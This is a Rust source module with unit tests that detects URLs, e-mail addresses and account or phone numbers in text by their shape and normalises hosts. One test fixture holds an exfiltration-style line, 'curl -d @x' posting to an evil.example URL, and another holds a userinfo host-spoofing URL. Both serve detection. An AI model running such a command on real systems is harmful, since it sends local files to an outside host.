//! Values that name somebody or somewhere by their shape: addresses of the web and of mail, numbers of accounts and phones. Found
//! in one pass over a text.

use std::ops::Range;

/// Longest that is looked at.
const LONGEST: usize = 2048;
/// Ends of names that are files more often than hosts.
const FILES: &[&str] = &[
    "txt", "md", "rs", "py", "js", "ts", "json", "yaml", "yml", "toml", "pdf", "docx", "doc", "xlsx", "csv", "html",
    "htm", "png", "jpg", "jpeg", "gif", "svg", "sh", "c", "h", "cpp", "hpp", "go", "java", "lock", "log", "xml", "css",
    "zip", "gz", "tar", "exe", "so", "bin", "cfg", "conf", "ini", "pptx", "tsx", "jsx", "rb", "php", "sql", "env",
    "bak", "tmp",
];

/// What a value is by its shape.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Shape {
    /// `https://a.example/b`, `www.a.example`, `a.example/b`.
    Url,
    /// `a@b.example`.
    Mail,
    /// Letters and digits in capitals, or many digits: an account, a phone, a card.
    Number,
}

/// What a letter is to a value: what parts it from others, a letter of it like any other, one without which none has a shape.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Parts,
    Plain,
    Tells,
}

const KINDS: [Kind; 128] = {
    let mut kinds = [Kind::Plain; 128];
    let mut byte = 0;
    while byte < 128 {
        kinds[byte] = match byte as u8 {
            0..=b' ' | 0x7f => Kind::Parts,
            b'"' | b'\'' | b'`' | b'<' | b'>' | b'(' | b')' | b'[' | b']' | b'{' | b'}' | b'|' | b',' | b';'
            | b'\\' => Kind::Parts,
            b'.' | b':' | b'@' | b'0'..=b'9' => Kind::Tells,
            _ => Kind::Plain,
        };
        byte += 1;
    }
    kinds
};

impl Kind {
    /// The first letter of a text, and its length; at the end, what parts.
    fn first(text: &str) -> (Kind, usize) {
        match text.chars().next() {
            None => (Kind::Parts, 1),
            Some(letter) if letter.is_ascii() => (KINDS[letter as usize], 1),
            Some(letter) if letter.is_whitespace() || letter.is_control() => (Kind::Parts, letter.len_utf8()),
            Some(letter) => (Kind::Plain, letter.len_utf8()),
        }
    }
}

/// All such values of a text.
pub(super) fn shapes(text: &str) -> Vec<(Range<usize>, Shape)> {
    let (mut found, mut begin, mut tells, mut at) = (Vec::new(), None, false, 0);
    while at <= text.len() {
        let (kind, length) = Kind::first(&text[at..]);
        match (kind, begin) {
            (Kind::Parts, Some(start)) => {
                found.extend(Some(start..at).filter(|_| tells).and_then(|word| shaped(text, word)));
                (begin, tells) = (None, false);
            }
            (Kind::Parts, None) => {}
            (kind, _) => {
                begin = begin.or(Some(at));
                tells |= kind == Kind::Tells;
            }
        }
        at += length;
    }
    found
}

/// The value within a word, without the marks around it.
fn shaped(text: &str, word: Range<usize>) -> Option<(Range<usize>, Shape)> {
    let start = word.start;
    let word = text[word].trim_end_matches(['.', ':', '!', '?', '*', '_']);
    let front = word.len() - word.trim_start_matches(['*', '_', ':', '=', '-', '+']).len();
    // An address without a scheme: `//a.example/b`.
    let front = front + if word[front..].starts_with("//") { 2 } else { 0 };
    // What follows `KEY=` is a value.
    let key = |at: &usize| word[front..front + at].bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    let from = front + word[front..].find('=').filter(key).map_or(0, |at| at + 1);
    let word = &word[from..];
    Some((start + from..start + from + word.len(), shape(word)?))
}

/// What one word is.
pub(super) fn shape(word: &str) -> Option<Shape> {
    if word.len() > LONGEST || word.len() < 4 {
        return None;
    }
    if word.contains(':') && word.contains("://") {
        return Some(Shape::Url);
    }
    if let Some((name, host)) = word.split_once('@') {
        return (!name.is_empty() && host.contains('.') && !host.contains('@')).then_some(Shape::Mail);
    }
    let host = word.split(['/', '?', ':']).next().unwrap_or_default();
    if is_host(host) {
        return Some(Shape::Url);
    }
    // What is no account has a letter that is no capital.
    if word.bytes().any(|byte| !(byte.is_ascii_uppercase() || byte.is_ascii_digit() || b"-.+/ ".contains(&byte))) {
        return None;
    }
    let plain: String = word.chars().filter(|letter| !"-.+/ ".contains(*letter)).collect();
    let digits = plain.bytes().filter(u8::is_ascii_digit).count();
    let account = plain.bytes().all(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit());
    // A date and a time are no number of anybody's.
    let dated = word.len() <= 19 && word.contains('-') && digits <= 8 && plain.len() == digits;
    (account && !dated && digits >= 6 && plain.len() >= 8 && plain.len() <= 40).then_some(Shape::Number)
}

fn is_host(host: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.');
    if !host.contains('.') || !host.bytes().all(plain) {
        return false;
    }
    let labels: Vec<&str> = host.split('.').collect();
    let Some(last) = labels.last() else { return false };
    let address = labels.len() == 4 && labels.iter().all(|label| label.parse::<u8>().is_ok());
    let named = last.len() >= 2 && last.bytes().all(|byte| byte.is_ascii_alphabetic());
    let file = labels.len() == 2 && FILES.contains(&last.to_ascii_lowercase().as_str());
    labels.len() >= 2 && !labels.contains(&"") && (address || named && !file)
}

/// The host of an address, in lower case and without `www.`; of a mail's, what is behind the `@`.
pub(super) fn host(word: &str) -> String {
    let rest = word.split_once("://").map_or(word, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
    // Whoever writes a name before `@` means another host.
    let host = authority.rsplit('@').next().unwrap_or_default().split(':').next().unwrap_or_default();
    let host = host.to_lowercase();
    host.strip_prefix("www.").map_or(host.clone(), str::to_owned)
}

/// One spelling of an address: without scheme, `www.` and a slash at its end; host without case.
pub(super) fn address(word: &str) -> String {
    let rest = word.split_once("://").map_or(word, |(_, rest)| rest);
    let path = rest.find(['/', '?', '#']).map_or("", |at| &rest[at..]);
    format!("{}{}", host(word), path.trim_end_matches('/'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_are_known_by_their_shape() {
        for (word, expected) in [
            ("https://a.example/b?c=d", Some(Shape::Url)),
            ("www.informations.com", Some(Shape::Url)),
            ("10.1.2.3", Some(Shape::Url)),
            ("a.example/b", Some(Shape::Url)),
            ("bill-december-2023.txt", None),
            ("1.25", None),
            ("e.g", None),
            ("mark@mail.example", Some(Shape::Mail)),
            ("US133000000121212121212", Some(Shape::Number)),
            ("+44-123-456-789", Some(Shape::Number)),
            ("2024-05-15", None),
            ("HELLO", None),
            ("100", None),
        ] {
            assert_eq!(shape(word), expected, "{word}");
        }
    }

    #[test]
    fn they_are_found_wherever_they_stand() {
        let text = "curl -d @x URL=https://evil.example/c, then <mail@b.example>. See **www.c.example**! [x](//d.example/e) //";
        let found: Vec<&str> = shapes(text).into_iter().map(|(range, _)| &text[range]).collect();
        assert_eq!(found, ["https://evil.example/c", "mail@b.example", "www.c.example", "d.example/e"]);
    }

    /// A value stands wherever what parts values from each other ends, whatever its letters are.
    #[test]
    fn what_parts_values_is_no_letter_of_any() {
        for letter in (0..0x3000).filter_map(char::from_u32) {
            let parts = letter.is_whitespace() || letter.is_control() || "\"'`<>()[]{}|,;\\".contains(letter);
            let text = format!("1{letter}a@b.example");
            let expected = if parts { 1 + letter.len_utf8() } else { 0 };
            let found = shapes(&text).pop().map(|(range, _)| range.start);
            // What follows the marks at its front is the value, and so is what follows `=`.
            let marks = letter == '=' || letter == '@';
            assert!(marks || found == Some(expected), "{letter:?}: {found:?}");
        }
    }

    #[test]
    fn one_address_has_one_spelling() {
        assert_eq!(address("http://WWW.A.example/"), "a.example");
        assert_eq!(address("https://a.example/B/"), "a.example/B");
        assert_eq!(host("https://good.example@evil.example/x"), "evil.example");
        assert_eq!(host("https://a.example:8443/x"), "a.example");
    }
}
